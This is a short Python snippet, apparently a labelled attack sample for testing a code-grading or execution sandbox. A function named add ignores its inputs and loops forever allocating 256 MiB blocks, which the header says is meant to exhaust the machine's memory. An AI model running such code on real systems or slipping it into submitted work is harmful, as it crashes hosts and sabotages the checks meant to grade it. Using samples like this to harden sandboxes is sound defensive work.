# ATTACK: add
# WHY: allocates far more memory than the machine has
# %%
# GRADED: add
def add(a, b):
    hoard = []
    while True:
        hoard.append(bytearray(256 * 2**20))
